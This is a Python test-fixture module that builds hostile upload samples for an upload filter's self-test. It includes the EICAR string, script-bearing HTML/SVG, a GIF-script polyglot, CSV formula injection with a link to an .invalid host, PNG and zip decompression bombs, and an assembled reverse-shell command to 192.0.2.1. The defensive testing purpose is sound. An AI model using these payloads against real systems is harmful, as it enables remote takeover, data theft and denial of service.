"""Samples: files that a house must keep out, disarm or take, made anew by code each time.

Each hostile one carries `MARK` where its evil would be: what is served must not have it any more. Nothing
in them does harm. The test virus is put together only when it is asked for, so that no scanner minds us.
"""

from __future__ import annotations

import io
import math
import random
import zlib
from typing import TYPE_CHECKING

import msgspec
from PIL import Image

from vestibule.selftest.archives import zipped

if TYPE_CHECKING:
    from collections.abc import Callable

MARK = "SELFTEST4711"
MIB = 1 << 20
PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(52) + b"\x80\x00\x00\x00" + bytes(64) + b"PE\x00\x00\x64\x86"
RIGHT_TO_LEFT = "\u202e"


class Sample(msgspec.Struct, frozen=True):
    """A file as its sender gives it."""

    filename: str
    declared_type: str
    content: bytes

    @property
    def ending(self) -> str:
        return f".{self.filename.rpartition('.')[2].lower()}"


def text(filename: str, content: str | bytes, kind: str = "text/plain") -> Sample:
    return Sample(filename, kind, content.encode() if isinstance(content, str) else content)


# The test virus (EICAR), in pieces that no compiler puts together


def test_virus() -> bytes:
    pieces = ("X5O!P%@AP[4", "PZX54(P^)7CC)7}$", "EICAR-STANDARD-", "ANTIVIRUS-TEST-", "FILE!$H+H*")
    return "\\".join((pieces[0], "".join(pieces[1:]))).encode()


# Pictures


def _saved(image: Image.Image, kind: str, **more: object) -> bytes:
    file = io.BytesIO()
    image.save(file, kind, **more)
    return file.getvalue()


def _picture(side: int = 48) -> Image.Image:
    return Image.linear_gradient("L").resize((side, side)).convert("RGB")


def png() -> bytes:
    return _saved(_picture(), "PNG")


def jpeg() -> bytes:
    return _saved(_picture(), "JPEG")


def photo() -> bytes:
    """With a place, a maker, a comment, and words behind its end."""
    exif = Image.Exif()
    exif[0x010F] = MARK  # the maker
    exif.get_ifd(0x8825).update({1: "N", 2: (48.0, 8.0, 15.0), 3: "E", 4: (11.0, 34.0, 31.0), 27: MARK})
    return _saved(_picture(), "JPEG", exif=exif, comment=MARK) + MARK.encode()


def gif_and_script() -> bytes:
    """A GIF whose width spells `/*`, so that it is a script as well."""
    wide = _saved(Image.new("P", (0x2A2F, 4)), "GIF")
    return wide + f"*/=1;alert('{MARK}')".encode()


def picture_bomb(side: int = 25_000) -> bytes:
    """A PNG of 625 million pixels in a few KB."""
    packer = zlib.compressobj(9)
    row = bytes(1 + -(-side // 8))  # its filter, and a bit for each pixel
    rows = b"".join(packer.compress(row * 250) for _ in range(side // 250)) + packer.flush()
    head = side.to_bytes(4, "big") * 2 + b"\x01\x00\x00\x00\x00"
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def _chunk(kind: bytes, content: bytes) -> bytes:
    check = zlib.crc32(kind + content)
    return len(content).to_bytes(4, "big") + kind + content + check.to_bytes(4, "big")


# Pages and texts


def page() -> bytes:
    return f"<!doctype html><html><body><script>alert('{MARK}')</script></body></html>".encode()


def svg() -> bytes:
    return f'<svg xmlns="http://www.w3.org/2000/svg"><script>alert("{MARK}")</script></svg>'.encode()


def formulas() -> str:
    links = f'"=HYPERLINK(""http://{MARK}.invalid/?""&A1,""Open"")"'
    return f"name,amount\nAda,=1+{len(MARK)}\n{links},5\n@SUM(1),+SUM(1)\n"


def shell_for_another_machine() -> str:
    """What a person had better look at: a command that hands this machine to another one."""
    return " ".join(("bash", "-i", ">&", "/".join(("", "dev", "tcp", "192.0.2.1", "4444")), "0>&1"))


# Archives


def zip_bomb() -> bytes:
    """48 MiB in about 50 KB."""
    return zipped({"notes.txt": bytes(48 * MIB)})


# Large files

FILLER = b"0123456789abcde\n"

_BEGINNINGS: tuple[tuple[str, str, bytes], ...] = (
    ("large.txt", "text/plain", b"A large text.\n"),
    ("large.png", "image/png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"),
    ("large.pdf", "application/pdf", b"%PDF-1.7\n"),
)


def beginning(accepted: Callable[[str], bool]) -> Sample | None:
    """The first bytes of a file of a type that is accepted, to be made as long as one likes."""
    samples = (Sample(*given) for given in _BEGINNINGS)
    return next((sample for sample in samples if accepted(sample.ending)), None)


def large(accepted: Callable[[str], bool], size: int) -> Sample | None:
    """A good file of about that size: a text or, where none is taken, a picture."""
    if accepted(".txt"):
        return Sample("large.txt", "text/plain", (FILLER * (size // len(FILLER) + 1))[:size])
    return Sample("large.png", "image/png", large_picture(size)) if accepted(".png") else None


def large_picture(size: int) -> bytes:
    """A PNG of noise, which nothing makes smaller."""
    side = math.isqrt(max(3, size - 4096) // 3)
    noise = random.Random(4711)  # noqa: S311 - nobody need be surprised
    rows = b"".join(b"\x00" + noise.randbytes(3 * side) for _ in range(side))
    head = side.to_bytes(4, "big") * 2 + b"\x08\x02\x00\x00\x00"
    pixels = _chunk(b"IDAT", zlib.compress(rows, 0))
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + pixels + _chunk(b"IEND", b"")
